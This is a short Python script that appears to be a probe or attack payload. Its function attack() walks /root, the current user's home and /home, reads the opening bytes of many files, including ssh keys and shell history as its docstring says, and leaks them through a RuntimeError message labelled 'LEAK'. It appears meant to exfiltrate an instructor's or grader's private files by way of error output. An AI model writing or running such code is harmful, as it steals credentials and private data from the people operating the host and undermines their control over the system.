"""Reads the instructor's home (shell history, ssh keys, anything readable)."""

import os


def _report(found):
    raise RuntimeError("LEAK " + repr(found)[:1500])


def attack(*args, **kwargs):
    found = []
    for home in ("/root", os.path.expanduser("~"), "/home"):
        for dirpath, _dirs, filenames in os.walk(home):
            for name in filenames[:50]:
                try:
                    with open(os.path.join(dirpath, name), "rb") as fh:
                        found.append(fh.read(200).decode("utf-8", "replace"))
                except OSError:
                    pass
    _report(found)
